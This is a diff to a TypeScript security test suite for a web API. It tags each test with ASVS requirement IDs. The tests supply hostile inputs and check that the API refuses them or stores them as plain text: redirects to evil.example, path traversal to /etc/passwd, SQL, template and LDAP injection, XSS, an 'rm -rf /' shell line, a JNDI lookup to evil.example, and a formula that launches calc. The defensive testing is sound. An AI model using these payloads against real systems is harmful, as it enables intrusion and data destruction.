@@ -132,14 +132,14 @@ describe('a signed request', () => {
 });
 
 describe('a request target', () => {
-  it.each(['//evil.example/api/v1/session', '/\\evil.example', '/?next=https://evil.example', '/sign-in?next=//evil.example', '/api/v1/session?next=//evil.example', '/%2f%2fevil.example', '/..%2f..%2fetc/passwd', '/assets/../../package.json', '/%00', '*', 'evil'])('%s leads nowhere else and gives no file [H 72] [H 127]', async (target) => {
+  it.each(['//evil.example/api/v1/session', '/\\evil.example', '/?next=https://evil.example', '/sign-in?next=//evil.example', '/api/v1/session?next=//evil.example', '/%2f%2fevil.example', '/..%2f..%2fetc/passwd', '/assets/../../package.json', '/%00', '*', 'evil'])('%s leads nowhere else and gives no file [H 72] [H 127] [ASVS 3.7.2] [ASVS 5.3.1]', async (target) => {
     for (const origin of [town.running.origins.ward, town.running.origins.contractor]) {
       const answer = await raw(origin, `GET ${target} HTTP/1.1\r\nhost: ${new URL(origin).host}\r\naccept: text/html\r\nconnection: close\r\n\r\n`);
       expect([answer.headers['location'], answer.status >= 400, answer.text.includes('"name": "kagibako"'), answer.text.includes('root:')]).toEqual([undefined, true, false, false]);
     }
   });
 
-  it('of every route forbids framing, storing and telling others where one was, whether it is answered or refused [H 68] [H 69] [H 72] [ASVS 14.3.2]', async () => {
+  it('of every route forbids framing, storing and telling others where one was, whether it is answered or refused [H 68] [H 69] [H 72] [ASVS 3.4.4] [ASVS 3.4.5] [ASVS 3.4.6] [ASVS 14.3.2]', async () => {
     const get = Object.values<Route>(routes).filter(({ method }) => method === 'GET');
     expect(get.length).toBeGreaterThan(60);
     for (const { path, sides } of get) {
@@ -176,11 +176,11 @@ describe('a body of JSON', () => {
     for (const charset of ['utf-7', 'shift_jis', 'utf-16', 'x; charset=utf-8', '__proto__']) expect([charset, (await post(good, `application/json; charset=${charset}`)).status]).toEqual([charset, expect.toSatisfy((status: number) => [400, 415].includes(status))]);
   });
 
-  it('names each key once, also where one is written with escapes [H 129] [ASVS 15.3.6] [ASVS 15.3.7]', async () => {
+  it('names each key once, also where one is written with escapes [H 129] [ASVS 1.5.3] [ASVS 15.3.6] [ASVS 15.3.7]', async () => {
     for (const body of ['{"transferIds":["0"],"\\u0074ransferIds":["1"]}', '{"a":{"\\u005f_proto__":1}}', '{"__proto__":{"x":1}}', '{"constructor":1,"transferIds":["0"]}']) expect([body, problemIn(await post(body)).code]).toEqual([body, 'INVALID_REQUEST']);
   });
 
-  it('has numbers that are what they say: none is rounded, negative, or written as text [H 130] [ASVS 15.3.5]', async () => {
+  it('has numbers that are what they say: none is rounded, negative, or written as text [H 130] [ASVS 1.4.2] [ASVS 2.2.1] [ASVS 15.3.5]', async () => {
     const form = town.engagement.forms[0]?.id ?? '';
     for (const quantity of ['9007199254740993', '1e3000', '-0', '-1', '0', '1.5', '"3"', '[3]', 'true', '1e99', '0x10', '03']) {
       const body = `{"engagementId":"${town.engagement.id}","formId":"${form}","recipientIds":["${town.firm.id}"],"quantity":${quantity}}`;
@@ -197,7 +197,7 @@ describe('a body of JSON', () => {
     }
   });
 
-  it('names no instant that is none, and no year that no calendar has [H 132]', async () => {
+  it('names no instant that is none, and no year that no calendar has [H 132] [ASVS 2.2.1]', async () => {
     for (const at of ['2026-02-30T00:00:00.000Z', '2026-07-02', '2026-07-02T05:00:00+09:00x', '+275760-09-13T00:00:00.000Z', '-000001-01-01T00:00:00Z', '0000-00-00T00:00:00.000Z', '2026-07-02T24:00:01.000Z', '2026-07-02T05:00:60.000Z', 'now', '']) {
       const failed = await town.sato.api.call('handover', { id: '0'.repeat(32), body: { method: 'in-person', to: town.tanaka.id, at } }).then(() => 'done', (error: unknown) => (error as { problem?: { code: string } }).problem?.code ?? 'fault');
       expect([at, failed]).toEqual([at, expect.toSatisfy((code: string) => code === 'INVALID_REQUEST' || code === 'NOT_FOUND')]);
@@ -209,7 +209,7 @@ describe('a body of JSON', () => {
 describe('a text', () => {
   const evil = ["'); DROP TABLE transfers; --", "' OR '1'='1", '"; rm -rf / ; `id` $(id)', '{{7*7}}${7*7}<%= 7*7 %>#{7*7}', '<img src=x onerror=alert(1)><script>alert(1)</script>', '%s%n%x {0} {id} {retryAfterSeconds}', '${jndi:ldap://evil.example/a}', '=cmd|\'/c calc\'!A0', '*)(uid=*', "x' UNION SELECT password_hash FROM accounts --"];
 
-  it.each(evil)('%s is stored as it is, in every field that takes a line, and runs nowhere [H 62]', async (text) => {
+  it.each(evil)('%s is stored as it is, in every field that takes a line, and runs nowhere [H 62] [ASVS 1.1.2] [ASVS 1.2.4]', async (text) => {
     const unique = `${text} ${randomBytes(3).toString('hex')}`.slice(0, 80);
     const section = await town.admin.api.call('addSection', { body: { name: unique, telephone: '03-0000' } });
     const firm = await town.admin.api.call('addContractor', { body: { name: unique, address: unique } });
@@ -220,7 +220,7 @@ describe('a text', () => {
     expect((await raw(town.running.origins.ward, head(town.sato, 'GET', `/api/v1/transfers?state=${encodeURIComponent(text)}`))).status).toBe(400);
   });
 
-  it.each(['a\r\nb', 'a\nforged-entry', 'a\u001b[2Jb', 'a\u0000b', 'a\u2028b', 'a\u0085b', '\ud800'])('with a line break or a control character (%j) is refused, and forges no line of the access log [H 62] [ASVS 16.4.1]', async (text) => {
+  it.each(['a\r\nb', 'a\nforged-entry', 'a\u001b[2Jb', 'a\u0000b', 'a\u2028b', 'a\u0085b', '\ud800'])('with a line break or a control character (%j) is refused, and forges no line of the access log [H 62] [ASVS 1.3.3] [ASVS 16.4.1]', async (text) => {
     const code = await town.admin.api.call('addSection', { body: { name: text, telephone: '03' } }).then((made) => (made as unknown as { name?: string }).name ?? 'made', (error: unknown) => (error as { problem?: { code: string } }).problem?.code ?? 'fault');
     expect([JSON.stringify(text), code]).toEqual([JSON.stringify(text), 'INVALID_REQUEST']);
     await raw(town.running.origins.ward, Buffer.from(`GET /${encodeURIComponent(text.replace('\ud800', ''))} HTTP/1.1\r\nhost: ${new URL(town.running.origins.ward).host}\r\nuser-agent: x\r\nconnection: close\r\n\r\n`));
